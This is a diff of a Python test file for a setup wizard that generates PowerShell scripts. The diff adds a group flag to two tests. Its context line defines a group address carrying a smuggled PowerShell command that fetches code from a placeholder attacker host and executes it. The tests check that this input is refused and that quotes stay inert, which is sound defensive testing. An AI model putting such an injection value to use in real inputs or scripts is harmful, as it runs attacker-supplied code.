@@ -789,7 +789,7 @@ ISSUE_GROUP = "a\u2019;iex(irm(\u2019https://evil.example/x\u2019));\u2019@conto
 
 def test_the_group_address_that_ran_code_is_refused_with_a_message(app, wizard, invitation):
     wizard.open(invitation["managed"])
-    wizard.to_tenant("application")
+    wizard.to_tenant("application", group=True)
     response = wizard.enter_tenant("example.edu", CLIENT_ID, group=ISSUE_GROUP)
     assert response.status_code == 400
     assert "e-mail address, such as mytimetable@example.edu" in response.text
@@ -830,7 +830,7 @@ def test_quotes_in_a_name_and_a_group_stay_strings_in_the_downloaded_scripts(app
         link = invitations.issue_invitation(institution, "test")
         db.session.commit()
     wizard.open(link)
-    wizard.to_tenant("application")
+    wizard.to_tenant("application", group=True)
     assert wizard.enter_tenant("example.edu", CLIENT_ID, group=group).status_code == 302
     for script in ("rbac", "access-policy"):
         response = wizard.client.get(f"/setup/scripts/{script}.ps1")
